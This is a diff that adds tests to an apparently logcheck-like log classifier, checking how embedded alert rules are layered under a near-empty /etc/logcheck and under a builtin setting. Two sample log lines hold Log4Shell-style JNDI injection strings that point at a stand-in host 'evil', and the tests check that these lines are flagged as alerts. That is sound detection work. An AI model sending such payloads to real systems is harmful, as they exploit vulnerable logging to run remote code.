@@ -136,3 +136,28 @@ test("the full workstation level compiles in slices: the event loop keeps runnin
   expect(fallback.from).toBe("fallback");
   expect(titles(fallback.classifier.classify("Failed login"))).toEqual(["Security Events for x"]);
 }, 60000);
+
+test("a rules home without cracking.d/violations.d rules (Debian's near-empty /etc/logcheck) gets the embedded rules layered under it", async () => {
+  // what a package drops into an otherwise empty /etc/logcheck
+  const home = makeHome("near-empty", { "ignore.d.server/gpg-agent": "^\\w{3} [ :0-9]{11} [._[:alnum:]-]+ gpg-agent\\[[0-9]+\\]: .*$\n" });
+  const r = await loadRuleSet({ home }, "server");
+  expect(r.layered).toBe(true);
+  expect(r.from).toBe("home");
+  const line = "Nov 30 10:00:00 host sshd[1]: Invalid user ${jndi:ldap://evil/x} from 192.0.2.1";
+  expect(r.classifier.classify(line).map((v) => v.kind)).toContain("alert");
+  // the home's own rule still decides its lines
+  expect(r.classifier.classify("Nov 30 10:00:00 host gpg-agent[5]: anything")).toEqual([]);
+  // a home with alert rules of its own is used as it is
+  const full = makeHome("own-alerts", { "cracking.d/local": "EVIL\n", "ignore.d.server/x": "^nothing$\n" });
+  const own = await loadRuleSet({ home: full }, "server");
+  expect(own.layered).toBe(false);
+  expect(own.classifier.classify(line).map((v) => v.kind)).not.toContain("alert");
+});
+
+test("logrules = LEVEL:builtin chooses the embedded rules, with no notice", async () => {
+  const r = await loadRuleSet({ home: "builtin" }, "server");
+  expect(r.homeMissing).toBe(false);
+  expect(r.layered).toBe(false);
+  expect(r.from).toBe("tree");
+  expect(r.classifier.classify("Nov 30 10:00:00 host web: GET /?x=${jndi:ldap://evil/a}").map((v) => v.kind)).toContain("alert");
+});
